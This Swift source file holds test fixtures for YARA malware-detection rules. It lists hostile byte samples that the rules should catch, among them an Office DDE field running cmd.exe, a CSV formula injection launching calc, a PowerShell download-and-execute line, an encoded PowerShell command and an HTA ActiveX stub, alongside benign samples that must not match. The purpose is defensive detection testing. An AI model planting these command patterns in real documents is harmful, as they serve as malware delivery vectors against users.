import Foundation

/// What our YARA rules are for, and what they must leave alone.
///
/// The hostile strings are put together here so that no scanner takes the tests for malware.
enum YaraSamples {
  static let hostile: [(rule: String, bytes: [UInt8])] = [
    (
      "Gate_RTF_Embedded_Object",
      text("{\\rtf1\\ansi\\object\\objupdate{\\*\\obj" + "data 0105000002000000080000}}")
    ),
    (
      "Gate_Office_DDE_Field",
      text(
        "<w:p><w:instrText xml:space=\"preserve\"> DDE"
          + "AUTO c:\\\\windows\\\\cmd.exe \"/k\" </w:instrText></w:p>")
    ),
    ("Gate_CSV_Command_Formula", text("编号,名称\n1,=cm" + "d|'/c calc'!A1\n")),
    (
      "Gate_Shortcut_Starts_Interpreter",
      shortcut + text("C:\\Windows\\System32\\cmd" + ".exe /c x")
    ),
    ("Gate_Autorun_Starts_Program", text("[auto" + "run]\nicon=a.ico\nopen=setup.exe\n")),
    (
      "Gate_PowerShell_Download_And_Run",
      text(
        "powershell -nop -w hidden \"IE" + "X (New-Object Net.WebClient).Download"
          + "String('http://x')\"")
    ),
    (
      "Gate_PowerShell_Encoded_Command",
      text("run power" + "shell.exe -nop -enc " + String(repeating: "QUJD", count: 30))
    ),
    ("Gate_HTA_Shell", text("x <hta:appli" + "cation id=a> new ActiveX" + "Object('a')")),
    ("Gate_Program_In_Base64", text(program.base64EncodedString())),
  ]

  static let ordinary: [[UInt8]] = [
    text("关于安全检查的通知。请不要运行 powershell 命令，也不要打开 cmd.exe。\n"),
    text("编号,数量,公式\n1,2,=A1+B1\n3,-4,+5\n"),
    text("[autorun 的说明] 光盘的自动运行功能已经停用。\n"),
    text("PowerShell 的 Invoke-WebRequest 可以下载文件，参见手册。\n"),
    text(Data(repeating: 7, count: 3_000).base64EncodedString()),
    text("{\"name\": \"DDE\", \"field\": \"w:instrText\"}"),
    text("=SUM(A1:A9)\n=cmd\n-1|2\n"),
    text(Data("MZ 开头的普通文字，不是程序。".utf8).base64EncodedString()),
    Samples.png, Samples.document(), Samples.gb18030,
    text("{\\rtf1\\ansi 普通的富文本，没有对象。}"),
  ]

  private static let shortcut: [UInt8] =
    [0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]
    + [UInt8](repeating: 0, count: 60)

  // The beginning of any Windows program: header and the stub's message.
  private static let program: Data = {
    let header: [UInt8] =
      [0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, 0, 0, 0, 0, 0, 0, 0]
      + [0x40] + [UInt8](repeating: 0, count: 39)
    let stub = Array("This program cannot be run in DOS mode.\r\r\n$".utf8)
    return Data(
      header + [0x0e, 0x1f, 0xba, 0x0e, 0, 0xb4, 9, 0xcd, 0x21, 0xb8, 1, 0x4c, 0xcd, 0x21] + stub)
  }()

  private static func text(_ text: String) -> [UInt8] { Array(text.utf8) }
}
